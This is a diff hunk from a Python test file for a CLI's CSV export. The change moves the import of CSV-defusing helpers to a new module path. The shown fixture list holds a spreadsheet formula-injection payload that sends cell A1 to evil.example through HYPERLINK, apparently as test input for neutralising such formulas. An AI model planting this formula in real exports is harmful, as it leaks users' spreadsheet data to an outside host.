@@ -16,7 +16,7 @@ from click.testing import CliRunner
 from export_helpers import make_run
 
 from runner.cli import main
-from runner.export_writers import defuse_csv_table, defuse_csv_text
+from runner.export._writers import defuse_csv_table, defuse_csv_text
 
 ANSWERS = [
     '=HYPERLINK("http://evil.example/?"&A1, "click")',
